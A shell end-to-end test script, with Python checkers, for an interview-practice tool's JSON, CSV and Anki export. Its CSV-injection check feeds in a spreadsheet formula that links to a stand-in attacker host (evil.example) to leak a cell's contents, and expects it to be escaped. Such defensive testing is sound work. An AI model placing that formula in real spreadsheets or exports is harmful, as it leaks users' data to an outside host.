# export: JSON and CSV of every table, parsed back here (Python's json and csv modules) and compared field
# by field with the database; text with commas, quotes, newlines, non-ASCII and a byte that is not UTF-8;
# CSV as RFC 4180 (CRLF, quoting); files written whole with mode 0600; usage and write errors.
. "$(dirname "$0")/lib.sh"
require python3 sqlite3
mkdir -p "$REBOUND_HOME/questions"
cp "$REBOUND_SOURCE/tests/e2e/data/practice.yaml" "$REBOUND_HOME/questions/"

# Two typed answers with awkward text (the second line of the first holds a byte that is not UTF-8), a
# follow-up, ratings, a note, and a rejection with quotes, commas and a line break in its feedback.
export REBOUND_SEED=1	# q-one (structure, clarity), then q-two (examples) and its follow-up
printf 'He said "no", then left; 100%% done\nnaïve café — ok \377 end\n\n4 3\nmy, note\n' >"$TMP/answers"
printf 'Second, with "quotes"\n\nAnd then, it shipped.\n\n5\n\n' >>"$TMP/answers"
STDIN="$TMP/answers" run "$REBOUND" interview --bank practice --count 2 --think 0 --typed
expect_status 0
run "$REBOUND" reject add --company 'Acme, "Inc"' --role 'Lead' --date 2026-11-01 --stage onsite \
	--feedback 'Needed more examples, and "structure".
Second line.' --themes examples,structure
expect_status 0

# compare.py EXPORT-KIND PATH...: checks the export against the database; prints what differs.
cat >"$TMP/compare.py" <<'PY'
import csv, json, math, sqlite3, sys
db = sqlite3.connect(sys.argv[1])
QUERIES = {
  "sessions": "SELECT id, kind, status, started_at, ended_at, bank, stage, theme, planned_count, answer_count,"
              " rated_count, answer_ms, think_seconds, answer_seconds, follow_ups, spoken, note FROM session ORDER BY id",
  "answers": "SELECT a.id, a.session_id, a.position, a.question_id, a.question_text, a.follow_up_of, a.mode, a.text,"
             " a.think_limit_seconds, a.think_used_ms, a.answer_limit_seconds, a.answer_used_ms, a.overtime,"
             " a.stopped_by, a.note, a.answered_at, a.rated_at, r.path, r.speaking_ms, r.silence_ratio, r.long_pauses,"
             " r.longest_pause_ms, r.pace_wpm, t.text, t.confidence, t.filler_count, t.hedge_count, r.unwritten_frames,"
             " e.source, CASE WHEN e.answer_id IS NULL THEN NULL ELSE rtrim(CASE WHEN e.situation THEN 'situation ' ELSE '' END || CASE WHEN e.task THEN 'task ' ELSE '' END || CASE WHEN e.action THEN 'action ' ELSE '' END || CASE WHEN e.result THEN 'result' ELSE '' END) END, e.ends_at_action, e.numbers, e.i_actions, e.we_actions,"
             " e.keywords_said, e.keywords_total, e.points_said, e.points_total FROM answer a"
             " LEFT JOIN recording r ON r.answer_id = a.id LEFT JOIN transcript t ON t.answer_id = a.id"
             " LEFT JOIN evidence e ON e.answer_id = a.id ORDER BY a.id",
  "ratings": "SELECT answer_id, theme_id, score, rated_at FROM rating ORDER BY answer_id, theme_id",
  "rejections": "SELECT id, company, role, rejected_on, stage_reached, interviewer, feedback, (SELECT group_concat(theme_id, ' ')"
                " FROM (SELECT theme_id FROM rejection_theme WHERE rejection_id = rejection.id ORDER BY theme_id)),"
                " created_at FROM rejection ORDER BY id",
}
COLUMNS = {
  "sessions": "id kind status started_at ended_at bank stage theme planned_count answered rated answer_ms think_seconds"
              " answer_seconds follow_ups spoken note",
  "answers": "id session_id position question_id question_text follow_up_of mode text think_limit_seconds think_used_ms"
             " answer_limit_seconds answer_used_ms overtime stopped_by note answered_at rated_at recording speaking_ms"
             " silence_ratio long_pauses longest_pause_ms pace_wpm transcript transcript_confidence filler_count hedge_count"
             " unwritten_frames evidence_source star_parts ends_at_action numbers i_actions we_actions keywords_said"
             " keywords_total points_said points_total",
  "ratings": "answer_id theme_id score rated_at",
  "rejections": "id company role rejected_on stage_reached interviewer feedback themes created_at",
}
def expected(table):
    db.text_factory = lambda b: b.decode("utf-8", "replace")
    return [list(row) for row in db.execute(QUERIES[table])]
def same(got, want, as_csv):
    if as_csv:
        if want is None:
            return got == ""
        if isinstance(want, (int, float)):
            return float(got) == float(want)
        return got == want
    if isinstance(want, float):
        return isinstance(got, (int, float)) and math.isclose(got, want, rel_tol=0, abs_tol=0)
    return got == want and type(got) == type(want)
bad = 0
def check(table, header, rows, as_csv):
    global bad
    if header != COLUMNS[table].split():
        print(table, "columns differ:", header); bad += 1
    want = expected(table)
    if len(rows) != len(want):
        print(table, "has", len(rows), "rows, the database", len(want)); bad += 1
    for got_row, want_row in zip(rows, want):
        for name, got, value in zip(header, got_row, want_row):
            if not same(got, value, as_csv):
                print(table, name, repr(got), "!=", repr(value)); bad += 1
kind = sys.argv[2]
if kind == "json":
    doc = json.load(open(sys.argv[3], encoding="utf-8"))
    if doc["format"] != "rebound-export" or doc["version"] != 2:
        print("bad format header"); bad += 1
    if list(doc) != ["format", "version", "sessions", "answers", "ratings", "rejections", "session_questions",
                     "recordings", "transcripts", "transcript_words", "spots", "evidence", "rejection_themes",
                     "reflections", "plan", "reviews", "preps", "settings"]:
        print("keys:", list(doc)); bad += 1
    for table in COLUMNS:
        rows = doc[table]
        header = list(rows[0]) if rows else COLUMNS[table].split()
        check(table, header, [[r[c] for c in header] for r in rows], False)
else:
    for path in sys.argv[3:]:
        table = path.rsplit("/", 1)[-1].split(".")[0]
        if table not in COLUMNS:
            continue	# the tables as stored: t1550 checks them through import
        raw = open(path, "rb").read()
        if not raw.endswith(b"\r\n") or not raw.split(b"\n", 1)[0].endswith(b"\r"):
            print(path, "does not end its lines with CRLF"); bad += 1
        rows = list(csv.reader(open(path, newline="", encoding="utf-8", errors="replace")))
        check(table, rows[0], rows[1:], True)
print("ok" if bad == 0 else "%d differences" % bad)
PY
compare() { python3 "$TMP/compare.py" "$REBOUND_HOME/rebound.db" "$@"; }

# JSON to standard output, and to a file.
run "$REBOUND" export
expect_status 0
printf '%s\n' "$out" >"$TMP/stdout.json"
expect_true '[ "$(compare json "$TMP/stdout.json")" = ok ]'
expect_out_has '"text": "He said \"no\", then left; 100% done\nnaïve café — ok � end"'
expect_out_has '"company": "Acme, \"Inc\""'
run "$REBOUND" export --out "$TMP/all.json"
expect_status 0
expect_out "Exported 1 session, 3 answers, 3 ratings, 1 rejection and $(db "SELECT (SELECT COUNT(*) FROM session_question) + (SELECT COUNT(*) FROM review) + (SELECT COUNT(*) FROM rejection_theme) + (SELECT COUNT(*) FROM evidence) + (SELECT COUNT(*) FROM reflection)") rows of the rest (the plan, reflections, drill schedule, recordings, transcripts, settings...) to $TMP/all.json."
expect_true '[ "$(compare json "$TMP/all.json")" = ok ]'
expect_true '[ "$(stat -c %a "$TMP/all.json")" = 600 ]'
expect_true '[ "$(ls "$TMP" | grep -c "all.json.")" = 0 ]'

# CSV: one table to standard output; every table into a directory.
run "$REBOUND" export --format csv --what ratings
expect_status 0
expect_true '[ "$(printf %s "$out" | head -1)" = "$(printf "answer_id,theme_id,score,rated_at\r")" ]'
run "$REBOUND" export --format csv --out "$TMP/csv"
expect_status 0
expect_out_has "Exported 1 session, 3 answers, 3 ratings, 1 rejection and "
expect_true '[ -f "$TMP/csv/reviews.csv" ] && [ -f "$TMP/csv/settings.csv" ]'
expect_true '[ "$(compare csv "$TMP"/csv/sessions.csv "$TMP"/csv/answers.csv "$TMP"/csv/ratings.csv "$TMP"/csv/rejections.csv)" = ok ]'
expect_true '[ "$(stat -c %a "$TMP/csv")" = 700 ] && [ "$(stat -c %a "$TMP/csv/answers.csv")" = 600 ]'
# RFC 4180: the feedback's line break and quotes stay inside one quoted field.
expect_true 'grep -q "\"Needed more examples, and \"\"structure\"\"." "$TMP/csv/rejections.csv"'
run "$REBOUND" export --format csv --what rejections --out "$TMP/rejections.csv"
expect_true '[ "$(compare csv "$TMP/rejections.csv")" = ok ]'
# CSV injection: a text cell a spreadsheet would run as a formula gets a leading quote (OWASP's rule);
# JSON keeps the text as it is.
run "$REBOUND" reject add --company "=1+2" --role '@SUM(A1)' --date 2026-11-02 --themes structure \
	--feedback '=HYPERLINK("http://evil.example/"&H2,"details")'
expect_status 0
run "$REBOUND" export --format csv --what rejections
expect_out_has "2,\"'=1+2\",\"'@SUM(A1)\",2026-11-02,"
expect_out_has "\"'=HYPERLINK(\"\"http://evil.example/\"\"&H2,\"\"details\"\")\""
run "$REBOUND" export --what rejections
expect_out_has '"company": "=1+2"'
run "$REBOUND" reject rm 2 --yes
expect_status 0

# The questions as an Anki deck: Anki's headers, one note per loaded question with a stable GUID.
run "$REBOUND" export --anki "$TMP/deck.csv"
expect_status 0
total=$(python3 -c "import sqlite3,sys; print(sqlite3.connect(sys.argv[1]).execute('SELECT count(*) FROM question WHERE retired = 0').fetchone()[0])" "$REBOUND_HOME/rebound.db")
expect_out "Exported $total questions to the Anki deck $TMP/deck.csv (File > Import in Anki)."
expect_true '[ "$(head -6 "$TMP/deck.csv" | tr -d "\r" | tr "\n" " ")" = "#separator:Comma #html:true #notetype:Basic #columns:Front,Back,Tags,GUID #tags column:3 #guid column:4 " ]'
cat >"$TMP/deck.py" <<'PY'
import csv, sys
rows = list(csv.reader(line for line in open(sys.argv[1], newline="", encoding="utf-8") if not line.startswith("#")))
assert len(rows) == int(sys.argv[2]), (len(rows), sys.argv[2])
assert all(len(r) == 4 for r in rows)
assert len({r[3] for r in rows}) == len(rows)
one = next(r for r in rows if r[3] == "rebound-q-two")
assert one[0] == "Second question?", one
assert one[2] == "rebound bank::practice theme::examples stage::onsite difficulty::3", one[2]
assert "<b>Follow-ups</b><ul><li>And then what happened?</li></ul>" in one[1], one[1]
me = next(r for r in rows if r[3] == "rebound-tell-me-about-yourself")
assert "<li>one achievement with a number</li>" in me[1]
print("ok")
PY
expect_true '[ "$(python3 "$TMP/deck.py" "$TMP/deck.csv" "$total")" = ok ]'
run "$REBOUND" export --anki "$TMP/deck2.csv" --format csv
expect_status 2
expect_err "rebound: export: --anki FILE takes no other option"

# Output that never reaches its reader is a failure.
"$REBOUND" export >/dev/full 2>"$TMP/full.err"
status=$?
expect_status 3
expect_true '[ "$(cat "$TMP/full.err")" = "rebound: export: cannot write the output: No space left on device" ]'
# Numbers are written the same in every locale (a comma-decimal one when this machine has one).
comma_locale=$(locale -a 2>/dev/null | grep -iE "^(de_DE|fr_FR|ru_RU)\.utf-?8$" | head -1)
if [ -n "$comma_locale" ]; then
	LC_ALL=$comma_locale "$REBOUND" export >"$TMP/locale.json"
	expect_true '[ "$(compare json "$TMP/locale.json")" = ok ]'
else
	echo "no comma-decimal locale here: the locale check is skipped"
fi

# Errors: usage, and a place that cannot be written (nothing is left behind).
run "$REBOUND" export --format xml
expect_status 2
expect_err "rebound: export: --format takes csv or json, not 'xml'"
run "$REBOUND" export --what everything
expect_status 2
expect_err "rebound: export: --what takes a table (sessions, answers, ratings, rejections, plan, reflections, reviews... as 'export --help' lists them), settings or all, not 'everything'"
run "$REBOUND" export --format csv
expect_status 2
expect_err "rebound: export: CSV holds one table: give --what TABLE, or --out DIR to write one file per table"
run "$REBOUND" export --out "$TMP/missing/dir/x.json"
expect_status 3
expect_err "rebound: export: cannot create '$TMP/missing/dir/x.json': No such file or directory"
run "$REBOUND" export --out "$TMP/csv"
expect_status 3
expect_err "rebound: export: cannot write '$TMP/csv': Is a directory"
expect_true '[ "$(ls "$TMP" | grep -c "^csv.")" = 0 ] && [ -f "$TMP/csv/answers.csv" ]'
finish
